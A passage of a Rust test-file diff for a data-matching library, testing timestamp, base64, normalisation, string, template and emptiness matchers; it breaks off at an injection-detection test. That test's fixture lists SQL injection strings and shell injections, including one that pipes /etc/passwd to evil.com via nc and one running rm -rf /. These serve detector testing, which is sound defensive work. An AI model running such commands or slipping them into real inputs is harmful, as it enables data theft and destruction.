+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["timestamp_plus_10s".to_string(), "5s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "10s apart should not be within 5s".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["timestamp_plus_10s".to_string(), "10s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "tolerance should be inclusive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_rfc3339_offset".to_string(),
+                args: vec!["timestamp_unix_milli_num".to_string(), "0s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "same instant in different formats should be equal".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["2021-03-01T00:00:04Z".to_string(), "5s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "literal timestamp should be within 5s".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["2021-03-01T01:00:00Z".to_string(), "1m".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "literal timestamp an hour later should not be within 1m".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["object.field".to_string(), "5s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-timestamp path should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["timestamp_plus_3s".to_string(), "soon".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid tolerance should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "timestamp_unix_num".to_string(),
+                args: vec!["timestamp_plus_3s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "missing tolerance should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::timestamp_close, &test_cases);
+}
+
+#[test]
+fn is_base64() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_plain".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "unwrapped base64 should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_plain".to_string(),
+                args: vec!["wrapped".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "unwrapped base64 should match when wrapped is allowed".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_wrapped".to_string(),
+                args: vec!["wrapped".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "base64 wrapped at 64 columns should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_wrapped_crlf".to_string(),
+                args: vec!["wrapped".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "base64 wrapped at 76 columns with crlf should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_wrapped".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "wrapped base64 should not match without the flag".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.base64_wrapped_invalid".to_string(),
+                args: vec!["wrapped".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid chars should not match even when wrapped".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "odd length text should not be base64".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec!["wrapped".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "empty string should not be base64".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::is_base64, &test_cases);
+}
+
+#[test]
+fn is_normalized() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfc".to_string(),
+                args: vec!["NFC".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "precomposed string should be NFC".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfd".to_string(),
+                args: vec!["NFC".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "decomposed string should not be NFC".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfd".to_string(),
+                args: vec!["nfd".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "decomposed string should be NFD, form is case-insensitive".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfc".to_string(),
+                args: vec!["NFD".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "precomposed string should not be NFD".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_ligature".to_string(),
+                args: vec!["NFC".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "ligature is unchanged by NFC".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_ligature".to_string(),
+                args: vec!["NFKC".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ligature decomposes under NFKC".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_latin".to_string(),
+                args: vec!["NFKD".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "ascii is in every form".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfc".to_string(),
+                args: vec!["NFX".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unknown form should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.normalized_nfc".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "missing form should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::is_normalized, &test_cases);
+}
+
+#[test]
+fn string_starts_with() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec!["https://".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "url should start with https://".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec!["http://".to_string(), "ftp://".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "url should not start with http:// or ftp://".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec!["ftp://".to_string(), "https://".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "any matching prefix should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no args should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::string_starts_with, &test_cases);
+}
+
+#[test]
+fn string_ends_with() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec![".html".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "url should end with .html".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec![".json".to_string(), ".xml".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "url should not end with .json or .xml".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec![".json".to_string(), "index.html".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "any matching suffix should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.url_https".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "no args should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::string_ends_with, &test_cases);
+}
+
+#[test]
+fn truncated_utf8() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_clean".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "clean base64 utf-8 should not be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_truncated".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "3 byte sequence cut after 2 bytes should be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_truncated_emoji".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "4 byte sequence cut after 2 bytes should be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_invalid_middle".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "invalid byte that isn't at the end should not be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_bytes_truncated".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "byte array cut mid-codepoint should be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.utf8_bytes_clean".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "complete byte array should not be truncated".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.script_cyrillic".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "plain string should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "number_int".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "number should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::truncated_utf8, &test_cases);
+}
+
+#[test]
+fn string_ignore_case() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_EQUAL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.country_code".to_string(),
+                args: vec!["US".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "equal should be case sensitive by default".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_EQUAL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.country_code".to_string(),
+                args: vec!["US".to_string(), "ignore_case".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "equal with ignore_case should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_EQUAL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["ignore_case".to_string(), "jsmith@streamdal.com".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "option can come before the value".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_EQUAL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.country_code".to_string(),
+                args: vec!["ignore_case".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "ignore_case alone is not a value to compare".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_CONTAINS_ANY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["@streamdal.com".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "contains_any should be case sensitive by default".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_CONTAINS_ANY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["@example.com".to_string(), "@streamdal.com".to_string(), "ignore_case".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "contains_any with ignore_case should match a lowercase domain".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_CONTAINS_ALL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["jsmith".to_string(), "STREAMDAL".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "contains_all should be case sensitive by default".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_CONTAINS_ALL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["jsmith".to_string(), "STREAMDAL".to_string(), "ignore_case".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "contains_all with ignore_case should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_STRING_CONTAINS_ALL,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.email_mixed_case".to_string(),
+                args: vec!["jsmith".to_string(), "example".to_string(), "ignore_case".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "contains_all with ignore_case still requires every value".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_tests(&test_cases);
+}
+
+#[test]
+fn regex_cache() {
+    let pattern = r"^cache-test-[0-9]+$";
+
+    let first = crate::matcher_core::cached_regex(pattern).unwrap();
+    let second = crate::matcher_core::cached_regex(pattern).unwrap();
+
+    // A recompile would allocate a new pattern string, a cache hit shares it
+    assert_eq!(first.as_str().as_ptr(), second.as_str().as_ptr());
+    assert!(second.is_match("cache-test-1"));
+
+    // Bad patterns still error and aren't cached
+    assert!(crate::matcher_core::cached_regex("([a-z]+").is_err());
+    assert!(crate::matcher_core::cached_regex("([a-z]+").is_err());
+
+    let patterns = vec![r"^cache-test-[0-9]+$".to_string(), r"^set-[a-z]+$".to_string()];
+    let set = crate::matcher_core::cached_regex_set(&patterns).unwrap();
+
+    assert_eq!(set.patterns(), patterns.as_slice());
+    assert!(set.is_match("set-abc"));
+    assert!(crate::matcher_core::cached_regex_set(&["([a-z]+".to_string()]).is_err());
+}
+
+#[test]
+fn template() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id".to_string(),
+                args: vec!["ORD-%04d-%s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "zero padded order id should conform".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id_unpadded".to_string(),
+                args: vec!["ORD-%04d-%s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unpadded number should not conform to %04d".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id_unpadded".to_string(),
+                args: vec!["ORD-%d-%s".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "unpadded number should conform to %d".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id".to_string(),
+                args: vec!["INV-%04d-%s".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "different literal prefix should not conform".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["%2s-%d-%d".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "fixed width string and numbers should conform".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.composite_id".to_string(),
+                args: vec!["%3s-%d-%d".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "wrong fixed width should not conform".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id".to_string(),
+                args: vec!["ORD-%q".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "unsupported placeholder should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_UNKNOWN,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.order_id".to_string(),
+                args: vec!["ORD-%".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "dangling percent should error".to_string(),
+            should_error: true,
+        },
+    ];
+
+    test_utils::run_matcher_tests(crate::matcher_core::template, &test_cases);
+}
+
+#[test]
+fn template_values() {
+    use crate::matcher_core::template_values;
+
+    assert_eq!(
+        template_values("ORD-%04d-%s", "ORD-0042-blue").unwrap(),
+        Some(vec!["0042".to_string(), "blue".to_string()])
+    );
+    assert_eq!(
+        template_values("%x/%f (100%%)", "ff/-1.5 (100%)").unwrap(),
+        Some(vec!["ff".to_string(), "-1.5".to_string()])
+    );
+    assert_eq!(template_values("ORD-%04d-%s", "ORD-42-blue").unwrap(), None);
+
+    // Literal text is matched as-is, not as regex syntax
+    assert_eq!(template_values("a.b", "axb").unwrap(), None);
+}
+
+#[test]
+fn is_empty_missing() {
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.does_not_exist".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "absent path should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.null_field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "null should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: true,
+            text: "empty string should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: false,
+            },
+            expected: false,
+            text: "non-empty string should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.does_not_exist".to_string(),
+                args: vec![],
+                negate: true,
+            },
+            expected: false,
+            text: "absent path, negated should error".to_string(),
+            should_error: true,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.null_field".to_string(),
+                args: vec![],
+                negate: true,
+            },
+            expected: false,
+            text: "null, negated should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec![],
+                negate: true,
+            },
+            expected: false,
+            text: "empty string, negated should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec![],
+                negate: true,
+            },
+            expected: true,
+            text: "non-empty string, negated should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.does_not_exist".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "absent path with missing_is_empty should be matched".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.null_field".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "null with missing_is_empty should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: false,
+            },
+            expected: true,
+            text: "empty string with missing_is_empty should match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: false,
+            },
+            expected: false,
+            text: "non-empty string with missing_is_empty should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.does_not_exist".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: true,
+            },
+            expected: false,
+            text: "absent path with missing_is_empty, negated should be not matched".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.null_field".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: true,
+            },
+            expected: false,
+            text: "null with missing_is_empty, negated should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.empty_string".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: true,
+            },
+            expected: false,
+            text: "empty string with missing_is_empty, negated should not match".to_string(),
+            should_error: false,
+        },
+        test_utils::TestCase {
+            request: Request {
+                match_type: DetectiveType::DETECTIVE_TYPE_IS_EMPTY,
+                data: &test_utils::SAMPLE_JSON_BYTES,
+                path: "object.field".to_string(),
+                args: vec!["missing_is_empty".to_string()],
+                negate: true,
+            },
+            expected: true,
+            text: "non-empty string with missing_is_empty, negated should match".to_string(),
+            should_error: false,
+        },
+    ];
+
+    test_utils::run_tests(&test_cases);
+}
+
+#[test]
+fn injection() {
+    let injection_json = r#"{
+        "union": "1 UNION ALL SELECT username, password FROM users",
+        "tautology": "admin' OR '1'='1",
+        "comment": "admin'-- ",
+        "drop": "x'; DROP TABLE users; --",
+        "delay": "1 AND SLEEP(5)",
+        "backtick": "name=`cat /etc/passwd | nc evil.com 80`",
+        "subshell": "$(whoami)",
+        "chained": "8.8.8.8; rm -rf /",
+        "benign_select": "Please select one of the options below, then press union station",
+        "benign_words": "Drop me a line; we will update you soon"
+    }"#
+    .as_bytes()
+    .to_vec();
+
+    let test_cases = vec![
+        test_utils::TestCase {
+            request: Request {
